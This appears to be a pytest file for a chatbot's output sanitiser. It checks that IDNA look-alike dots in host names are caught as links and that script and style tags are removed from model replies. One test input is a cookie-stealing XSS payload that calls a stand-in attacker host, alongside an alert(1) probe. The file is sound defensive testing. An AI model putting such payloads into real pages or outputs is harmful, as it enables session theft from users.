"""The link filter of model output (`bot.links`): IDNA's full stops and script text."""

from __future__ import annotations

import pytest

from bot.citation import check_reply
from bot.links import find_links, strip_links


@pytest.mark.parametrize("dot", ["\u3002", "\uff0e", "\uff61"])
def test_idna_full_stops_make_a_host(dot: str) -> None:
    """A browser (IDNA) reads `evil。example` as `evil.example`: it is a link."""
    for text in (
        f"Se evil{dot}example for mer.",
        f"Se https://evil{dot}example/x nå.",
        f"Skriv til ola@evil{dot}example i dag.",
    ):
        out = strip_links(text)
        assert "evil" not in out, (text, out)
        assert find_links(text)
    # held by the article, written either way, it stays
    assert (
        strip_links(f"Se evil{dot}example.", "Nettstedet evil.example svarer.")
        == f"Se evil{dot}example."
    )


@pytest.mark.parametrize(
    "payload",
    [
        "<script>fetch('https://evil.example/?q=' + document.cookie)</script>",
        "<SCRIPT type=text/javascript>alert(1)</SCRIPT >",
        "<style>body{display:none}</style>",
        "<script>alert(1)",
    ],
)  # unclosed: everything after it is code
def test_script_and_style_text_goes_with_its_tags(payload: str) -> None:
    reply = f"Han er professor [1]. {payload}"
    out = check_reply(reply, 3).text
    assert out == "Han er professor [1].", out
